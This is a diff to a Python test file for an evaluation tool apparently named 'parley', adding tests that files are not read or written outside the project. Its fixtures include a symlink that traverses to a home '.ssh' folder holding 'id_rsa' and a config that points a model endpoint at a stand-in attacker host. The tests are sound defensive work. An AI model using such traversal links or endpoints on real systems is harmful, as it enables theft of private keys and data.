@@ -18,6 +18,8 @@ import orjson
 import pytest
 
 import parley
+from parley.datasets.catalogue import load_items
+from parley.rules.items import OSEntry
 from tests.cli.test_cli import parley as command
 
 KEYS = {
@@ -178,6 +180,17 @@ prompts: {write: "Say $AWS_SECRET.", review: "{said}"}
 rubric: {w: good, e: good}
 metric: METRIC
 """
+OS_ENTRY = orjson.dumps(
+    [
+        {
+            "id": "one",
+            "description": "What?",
+            "create": {"init": {"file": "id_rsa"}},
+            "start": {"file": "id_rsa"},
+            "evaluation": {"match": "1", "example": {"file": "id_rsa"}},
+        }
+    ]
+).decode()
 QA = (
     "kind: experiment\ntask: qa\nmodels: {a: {model: vllm/m, base_url: 'http://evil.example/v1'}}\n"
 )
@@ -426,6 +439,15 @@ HOSTILE = {
         },
         (),
     ),
+    "scripts behind a link": (
+        {
+            "d/scripts": "->../../../home/.ssh",
+            "d/x.json": OS_ENTRY,
+            "x.yaml": f"kind: experiment\ntask: os_tasks\ndataset: d/x.json\n"
+            f"models: {{a: {{model: vllm/m, base_url: '{EVIL}'}}}}\n",
+        },
+        (),
+    ),
     # tasks
     "a variable in the prompt of a task": (
         {
@@ -552,3 +574,28 @@ def test_a_run_is_not_written_outside_the_folder(here, tmp_path):
     said = command("run", "x.yaml", "--yes", cwd=here, code=2)
     assert "x.yaml, line 4: store: ../../home/.ssh is outside" in said.err
     assert os.listdir(tmp_path / "home" / ".ssh") == ["id_rsa"]
+
+
+def test_scripts_of_a_dataset_are_not_read_through_a_link(here):
+    lay(here, {"d/scripts": "->../../../home/.ssh", "d/x.json": OS_ENTRY})
+    (entry,) = load_items("d/x.json", OSEntry)
+    assert PRIVATE not in repr(entry)
+
+
+@pytest.mark.parametrize(("store", "code"), [("", 2), ("store: theirs\n", 0)])
+def test_a_file_begins_with_no_run_of_the_users(here, tmp_path, monkeypatch, store, code):
+    """What a model said in a private run would be shown to whom the file names."""
+    monkeypatch.setenv("PARLEY_STORE", str(tmp_path / "home" / "runs"))
+    for place in (tmp_path / "home" / "runs", here / "theirs"):
+        parley.run("qa", {"a": "bot/learner"}, items=2, store=str(place))
+    lay(
+        here,
+        {
+            "x.yaml": "kind: experiment\ntask: qa\nitems: 2\nplan: evolve\n"
+            f"evolve: {{from: last, retriever: random}}\nmodels: {{a: bot/learner}}\n{store}"
+        },
+    )
+    said = command("run", "x.yaml", "--yes", cwd=here, code=code)
+    if code:
+        assert "evolve.from: last is a run" in said.err
+        assert "--allow-path last" in said.err
